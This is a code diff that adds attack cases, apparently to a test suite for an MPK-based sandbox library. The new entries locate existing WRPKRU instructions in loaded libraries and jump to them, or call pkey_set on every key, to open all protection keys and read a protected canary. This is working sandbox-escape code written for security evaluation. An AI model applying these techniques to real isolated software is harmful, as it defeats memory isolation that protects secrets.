@@ -109,6 +109,62 @@ ENTRY(steal_signal) /* A9: take over SIGSEGV, then fault */
 	return 0;
 }
 
+/* A2: the WRPKRU instructions already in the process, found without
+ * writing anything (dl_iterate_phdr takes a lock in key-0 memory) */
+static uintptr_t find_wrpkru(const char *lib)
+{
+	for (const struct link_map *l = _r_debug.r_map; l; l = l->l_next) {
+		if (!l->l_name || !strstr(l->l_name, lib))
+			continue;
+		const ElfW(Ehdr) *eh = (const ElfW(Ehdr) *)l->l_addr;
+		const ElfW(Phdr) *ph = (const ElfW(Phdr) *)(l->l_addr + eh->e_phoff);
+
+		for (int i = 0; i < eh->e_phnum; i++) {
+			const uint8_t *b = (const uint8_t *)(l->l_addr + ph[i].p_vaddr);
+
+			if (ph[i].p_type != PT_LOAD || !(ph[i].p_flags & PF_X))
+				continue;
+			for (size_t k = 0; k + 3 <= ph[i].p_memsz; k++)
+				if (b[k] == 0x0f && b[k + 1] == 0x01 && b[k + 2] == 0xef)
+					return (uintptr_t)(b + k);
+		}
+	}
+	return 0;
+}
+
+/* jump to the first one in lib with eax = ecx = edx = 0: PKRU "every key open" */
+static void jump_wrpkru(const char *lib)
+{
+	uintptr_t hit = find_wrpkru(lib);
+
+	if (!hit)
+		syscall(SYS_exit_group, 3);
+	__asm__ volatile("xorl %%eax, %%eax\n\t"
+			 "xorl %%ecx, %%ecx\n\t"
+			 "xorl %%edx, %%edx\n\t"
+			 "call *%0\n\t"
+			 :
+			 : "r"(hit)
+			 : "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "memory");
+	show(canary());
+}
+
+ENTRY(steal_gate) /* A2: into the library's own gate */
+{
+	(void)argc; (void)argv;
+	jump_wrpkru("libpkeysbox");
+	return 0;
+}
+
+ENTRY(steal_pkey_set) /* A2: the C library's pkey_set, every key opened */
+{
+	(void)argc; (void)argv;
+	for (int k = 1; k < 16; k++)
+		pkey_set(k, 0);
+	show(canary());
+	return 0;
+}
+
 ENTRY(steal_seccomp) /* A10 */
 {
 	(void)argc; (void)argv;
